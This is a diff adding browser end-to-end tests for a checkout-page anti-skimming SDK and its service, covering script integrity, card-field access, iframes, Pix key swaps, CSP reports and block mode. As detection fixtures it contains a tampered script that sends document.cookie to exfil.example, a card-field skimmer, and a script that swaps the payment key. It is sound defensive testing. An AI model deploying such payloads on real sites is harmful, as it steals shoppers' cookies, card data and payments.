@@ -7,7 +7,7 @@ import { EmbeddedHarness } from '../../embedded/src/testing/embedded-harness';
 import { SdkIngestion } from '../../inventory/src/ingestion/sdk-ingestion.service';
 import { hashRecipientKey } from '../../inventory/src/stores/recipient-key';
 import { chromiumFound, CHROME_PATH, launchChromium } from './chromium';
-import { FixtureServer } from './fixture-server';
+import { FixtureServer, VENDOR_HOST } from './fixture-server';
 
 /* eslint-disable @typescript-eslint/no-explicit-any -- tests read whatever the API answered */
 
@@ -135,5 +135,224 @@ describeInChromium('the browser SDK in Chromium, against the running service', (
     expect(await page.evaluate('[!!window.appRan, !!window.moduleRan, !!window.corsRan, !!window.tagRan, !!window.dynamicRan, !!window.wrongSriRan]')).toEqual([true, true, true, true, true, false]);
     expect(errors).toEqual([]);
     await page.close();
+  }, 60_000);
+
+  it('opens SCRIPT_INTEGRITY_MISMATCH when an authorized script changes content', async () => {
+    const store = await createStore();
+    fixtures.script('/integrity/vendor.js', 'window.vendor = 1;', { cors: true });
+    const url = fixtures.page('/integrity/checkout', checkout(store.snippets.html, `<script src="${fixtures.url('/integrity/vendor.js', 'other')}" crossorigin="anonymous"></script>`));
+    const first = await visit(url);
+    const [vendor] = await scriptsUntil(store.id, (list) => list.some((s) => s.current_hash === sri('window.vendor = 1;')));
+    const authorized = await service.request('POST', `/api/v1/scripts/${vendor.id}/authorize`, { token, body: { justification: 'Payment widget, reviewed' } });
+    expect(authorized.body).toMatchObject({ status: 'authorized', integrity_status: 'match' });
+    await first.page.close();
+
+    fixtures.script('/integrity/vendor.js', 'window.vendor = 1; fetch("https://exfil.example/?c=" + document.cookie);', { cors: true });
+    const second = await visit(url);
+    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'SCRIPT_INTEGRITY_MISMATCH'));
+    expect(alert).toMatchObject({ type: 'SCRIPT_INTEGRITY_MISMATCH', severity: 'high', source: vendor.src, details: expect.objectContaining({ authorized_hash: sri('window.vendor = 1;') }) });
+    expect((await service.request('GET', `/api/v1/scripts/${vendor.id}`, { token })).body.integrity_status).toBe('mismatch');
+    await second.page.close();
+  }, 60_000);
+
+  it('names the script that reads the card field, and never sends the value', async () => {
+    const store = await createStore();
+    fixtures.script('/fields/skimmer.js', 'setTimeout(function () { window.stolen = document.getElementById("cc").value; }, 50);', { cors: true });
+    const sent: string[] = [];
+    const url = fixtures.page('/fields/checkout', checkout(store.snippets.html, `<script src="${fixtures.url('/fields/skimmer.js', 'other')}"></script>`));
+    const context = await browser.createBrowserContext();
+    const page = await context.newPage();
+    page.on('request', (request) => request.url().includes('/sdk/v1/events') && sent.push(request.postData() ?? ''));
+    await page.goto(url, { waitUntil: 'load' });
+    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'SENSITIVE_FIELD_ACCESS'));
+    expect(alert).toMatchObject({ source: fixtures.url('/fields/skimmer.js', 'other'), details: expect.objectContaining({ field: 'card_number' }) });
+    expect(bySrc(await scripts(store.id), 'skimmer.js').status).toBe('suspicious');
+    expect(await page.evaluate('window.stolen')).toBe('4111111111111111'); // the page works as before
+    expect(sent.length).toBeGreaterThan(0);
+    for (const body of sent) expect(body).not.toContain('4111111111111111');
+    await context.close();
+  }, 60_000);
+
+  it('reports an iframe outside expected_iframe_origins', async () => {
+    const store = await createStore({ expected_iframe_origins: ['pagseguro.com.br'] });
+    fixtures.page('/iframes/frame.html', '<p>not a payment form</p>');
+    const url = fixtures.page('/iframes/checkout', checkout(store.snippets.html, '', `<iframe src="${fixtures.url('/iframes/frame.html', 'other')}"></iframe>`));
+    const { page } = await visit(url);
+    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'UNEXPECTED_IFRAME'));
+    expect(alert).toMatchObject({ severity: 'high', details: expect.objectContaining({ host: 'localhost', expected: ['pagseguro.com.br'] }) });
+    await page.close();
+  }, 60_000);
+
+  it('catches a Pix key swapped after load, from its hash only', async () => {
+    const pinned = 'Pagamentos@Loja.com.br';
+    const swapped = 'golpista@example.com';
+    const store = await createStore({ payment_methods: ['pix'], recipients: [{ method: 'pix', key: pinned, label: 'Conta da loja' }], overlay_check_interval_ms: 500 });
+    const url = fixtures.page(
+      '/pix/checkout',
+      checkout(
+        store.snippets.html,
+        '',
+        `<p>Pix: <span data-pss-recipient="pix">${pinned}</span></p><textarea id="copia" readonly>${brCode(pinned.toLowerCase())}</textarea>
+         <script>setTimeout(function () { document.getElementById('copia').value = ${JSON.stringify(brCode(swapped))}; }, 1500);</script>`,
+      ),
+    );
+    const sent: string[] = [];
+    const context = await browser.createBrowserContext();
+    const page = await context.newPage();
+    page.on('request', (request) => request.url().includes('/sdk/v1/events') && sent.push(request.postData() ?? ''));
+    await page.goto(url, { waitUntil: 'load' });
+    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'RECIPIENT_MISMATCH'));
+    expect(alert).toMatchObject({ severity: 'critical', source: 'pix', details: expect.objectContaining({ method: 'pix', key_hash: hashRecipientKey(swapped) }) });
+    expect(await alerts(store.id)).toHaveLength(1); // the pinned key, shown twice, matched
+    for (const body of sent) expect(body).not.toMatch(/golpista|pagamentos/i);
+    await context.close();
+  }, 60_000);
+
+  it('follows an SPA to its checkout: scripts it inserts are seen, on the checkout URL', async () => {
+    const store = await createStore();
+    fixtures.script('/spa/checkout-widget.js', 'window.widget = true;', { cors: true });
+    const url = fixtures.page(
+      '/spa/',
+      checkout(
+        store.snippets.html,
+        '',
+        `<script>function go() { history.pushState({}, '', '/spa/checkout'); var s = document.createElement('script'); s.src = '${fixtures.url('/spa/checkout-widget.js', 'other')}'; document.head.appendChild(s); }</script>`,
+      ),
+    );
+    const context = await browser.createBrowserContext();
+    const page = await context.newPage();
+    const batches: any[] = [];
+    page.on('request', (request) => request.url().includes('/sdk/v1/events') && batches.push(JSON.parse(request.postData() ?? '{}')));
+    await page.goto(url, { waitUntil: 'load' });
+    await page.evaluate('go()');
+    const list = await scriptsUntil(store.id, (found) => found.some((s) => s.src.includes('checkout-widget.js')));
+    expect(bySrc(list, 'checkout-widget.js')).toMatchObject({ hash_source: 'sdk', current_hash: sri('window.widget = true;') });
+    const carrying = batches.find((batch) => JSON.stringify(batch.observations).includes('checkout-widget.js'));
+    expect(carrying.page_url).toBe(fixtures.url('/spa/checkout'));
+    await context.close();
+  }, 60_000);
+
+  it("turns a Report-Only CSP's browser reports into CSP_VIOLATION alerts and sightings, with or without the SDK", async () => {
+    const store = await createStore();
+    fixtures.script('/csp/tracker.js', 'window.tracker = true;');
+    const policy = `script-src 'self' 'unsafe-inline' ${api}; report-uri ${api}/sdk/v1/csp?key=${store.sdk_key}`;
+    const tracker = fixtures.url('/csp/tracker.js', 'other');
+    const bare = fixtures.page('/csp/no-sdk', `<!doctype html><html><head><script src="${tracker}"></script></head><body>ok</body></html>`, {
+      'Content-Security-Policy-Report-Only': policy,
+    });
+    const { page } = await visit(bare);
+    const list = await scriptsUntil(store.id, (found) => found.some((s) => s.src === tracker));
+    expect(bySrc(list, 'tracker.js')).toMatchObject({ current_hash: null, integrity_status: 'pending' });
+    const [alert] = await alertsUntil(store.id, (found) => found.some((a) => a.type === 'CSP_VIOLATION'));
+    expect(alert).toMatchObject({ source: tracker, details: expect.objectContaining({ blocked_uri: tracker }) });
+    await page.close();
+
+    const withSdk = await createStore();
+    const url = fixtures.page('/csp/with-sdk', checkout(withSdk.snippets.html, `<script src="${tracker}"></script>`), {
+      'Content-Security-Policy-Report-Only': `script-src 'self' 'unsafe-inline' ${api}`,
+    });
+    const second = await visit(url);
+    const [fromSdk] = await alertsUntil(withSdk.id, (found) => found.some((a) => a.type === 'CSP_VIOLATION'));
+    expect(fromSdk.details).toMatchObject({ blocked_uri: tracker });
+    await second.page.close();
+  }, 60_000);
+
+  it('in block mode, stops a blocked script on the next page view, and reports the attempt', async () => {
+    const store = await createStore({ mode: 'block' });
+    fixtures.script('/block/own.js', 'window.ownRan = true;');
+    fixtures.script('/block/widget.js', 'window.widgetRan = true;');
+    fixtures.script('/block/parsed.js', 'window.parsedRan = true;');
+    const widget = fixtures.url('/block/widget.js', 'vendor');
+    const url = fixtures.page(
+      '/block/checkout',
+      checkout(
+        store.snippets.html,
+        `<script src="/block/own.js"></script>`,
+        // a tag manager inserts the widget once the page has loaded; another script of that host is in the HTML
+        `<script>addEventListener('load', function () { var w = document.createElement('script'); w.src = '${widget}'; w.onerror = function () { window.widgetFailed = true; }; document.body.appendChild(w); });</script>
+         <script src="${fixtures.url('/block/parsed.js', 'vendor')}"></script>`,
+      ),
+    );
+    const ran = async (page: Page) => page.evaluate('({ own: !!window.ownRan, widget: !!window.widgetRan, failed: !!window.widgetFailed, parsed: !!window.parsedRan })');
+    const context = await browser.createBrowserContext();
+    const first = await visit(url, context);
+    await first.page.waitForFunction('window.widgetRan === true');
+    expect(await ran(first.page)).toEqual({ own: true, widget: true, failed: false, parsed: true });
+    const seen = await scriptsUntil(store.id, (list) => list.some((s) => s.src === widget));
+    const blocked = await service.request('POST', `/api/v1/scripts/${bySrc(seen, 'widget.js').id}/block`, { token, body: { justification: 'Unknown widget on the checkout' } });
+    expect(blocked.body).toMatchObject({ rule: { target: 'domain', value: VENDOR_HOST, active: true } });
+    await first.page.close();
+
+    // The next page view: the fresh config (asked for first thing) stops the widget before it runs.
+    const second = await visit(url, context);
+    await second.page.waitForFunction('window.widgetFailed === true');
+    expect(await ran(second.page)).toMatchObject({ own: true, widget: false, failed: true });
+    expect(second.errors).toEqual([]);
+    const before = bySrc(seen, 'widget.js').sightings;
+    const after = await eventually(
+      async () => {
+        await service.app.get(SdkIngestion).flush();
+        return bySrc(await scripts(store.id), 'widget.js');
+      },
+      (script) => script.sightings > before,
+      WAIT,
+    );
+    expect(after).toMatchObject({ status: 'blocked', integrity_status: 'blocked' });
+    await second.page.close();
+
+    // With the rule known from the start (kept from the last page view), a script in the HTML after the SDK is
+    // stopped too; one the parser reached before the config came may still have run on the view before.
+    const third = await visit(url, context);
+    await third.page.waitForFunction('window.widgetFailed === true');
+    expect(await ran(third.page)).toEqual({ own: true, widget: false, failed: true, parsed: false });
+    expect(third.errors).toEqual([]);
+    await context.close();
+  }, 60_000);
+
+  it('in developer mode observes nothing and only tells the service it is installed', async () => {
+    const store = await createStore({ developer_mode: true });
+    fixtures.script('/dev/skimmer.js', 'setTimeout(function () { window.read = document.getElementById("cc").value; }, 50);', { cors: true });
+    const url = fixtures.page('/dev/checkout', checkout(store.snippets.html, `<script src="${fixtures.url('/dev/skimmer.js', 'other')}"></script>`));
+    const context = await browser.createBrowserContext();
+    const page = await context.newPage();
+    const batches: any[] = [];
+    page.on('request', (request) => request.url().includes('/sdk/v1/events') && batches.push(JSON.parse(request.postData() ?? '{}')));
+    await page.goto(url, { waitUntil: 'load' });
+    const status = await eventually(
+      async () => {
+        await service.app.get(SdkIngestion).flush();
+        return (await service.request('GET', `/api/v1/stores/${store.id}/status`, { token })).body;
+      },
+      (body) => body.sdk.installed === true,
+      WAIT,
+    );
+    expect(status.sdk).toMatchObject({ installed: true, paused: true });
+    await page.goto('about:blank'); // pagehide: a running SDK would flush here
+    expect(batches.length).toBeGreaterThan(0);
+    for (const batch of batches) expect(batch.observations).toEqual([]);
+    expect(await scripts(store.id)).toEqual([]);
+    await context.close();
+  }, 60_000);
+
+  it('fails open: with the service down the checkout works as if the SDK were absent', async () => {
+    const store = await createStore();
+    const down = `http://127.0.0.1:${await freePort()}`;
+    const sdk = (await service.request('GET', '/sdk/v1/sdk.js')).text;
+    fixtures.script('/down/sdk.js', sdk);
+    fixtures.script('/down/app.js', 'window.appRan = document.getElementById("cc").value.length > 0;');
+    const pages = [
+      // the SDK itself cannot be fetched (the snippet as pasted, pointing at a dead host)
+      store.snippets.html.split(api).join(down),
+      // the SDK loads (from a CDN, say) but the service it reports to is down
+      `<script src="${fixtures.url('/down/sdk.js')}?key=${store.sdk_key}" data-endpoint="${down}/sdk/v1/"></script>`,
+    ];
+    for (const [index, snippet] of pages.entries()) {
+      const url = fixtures.page(`/down/checkout-${index}`, checkout(snippet, '', '<script src="/down/app.js"></script><script>window.inlineRan = true;</script>'));
+      const { page, errors } = await visit(url);
+      await page.type('#cc', '1');
+      expect(await page.evaluate('[!!window.appRan, !!window.inlineRan, document.getElementById("cc").value]')).toEqual([true, true, '14111111111111111']);
+      expect(errors).toEqual([]);
+      await page.close();
+    }
   }, 60_000);
 });
